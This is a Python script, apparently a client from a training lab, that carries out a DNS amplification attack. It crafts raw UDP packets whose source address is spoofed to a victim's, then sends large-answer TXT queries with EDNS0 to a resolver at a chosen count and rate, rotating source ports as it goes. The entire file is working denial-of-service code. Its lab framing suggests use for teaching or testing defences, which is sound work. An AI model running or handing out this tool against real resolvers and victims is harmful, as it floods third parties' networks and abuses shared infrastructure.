"""python -m training.lab.clients.amplify: ask a resolver for much, in the name of a victim. RFC 1035, 6891."""

import argparse
import socket
import struct
import time
from random import Random

from training.lab.services.names import LARGE_NAME


def question(name: str, identifier: int) -> bytes:
    """A question for all text of a name, with room for a large answer."""
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    header = struct.pack("!HHHHHH", identifier, 0x0100, 1, 0, 0, 1)
    return header + labels + b"\x00" + struct.pack("!HH", 16, 1) + b"\x00" + struct.pack("!HHIH", 41, 4096, 0, 0)


def datagram(source: str, target: str, ports: tuple[int, int], payload: bytes) -> bytes:
    """An IPv4 packet of UDP from any address; the kernel fills in the checksum of IP, UDP's is none. RFC 768."""
    udp = struct.pack("!HHHH", *ports, 8 + len(payload), 0) + payload
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0) + ends + udp


def main() -> None:
    """Read the command line and ask, so many times, so often."""
    parser = argparse.ArgumentParser()
    for name in ("--victim", "--resolver"):
        parser.add_argument(name, required=True)
    for name in ("--count", "--seed"):
        parser.add_argument(name, type=int, required=True)
    parser.add_argument("--rate", type=float, required=True)
    given = parser.parse_args()
    draw = Random(given.seed)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        port = draw.randrange(1024, 65_536)
        for number in range(given.count):
            if number % 50 == 0:
                port = draw.randrange(1024, 65_536)
            asked = question(LARGE_NAME, draw.getrandbits(16))
            raw.sendto(datagram(given.victim, given.resolver, (port, 53), asked), (given.resolver, 0))
            time.sleep(1 / given.rate)


if __name__ == "__main__":
    main()
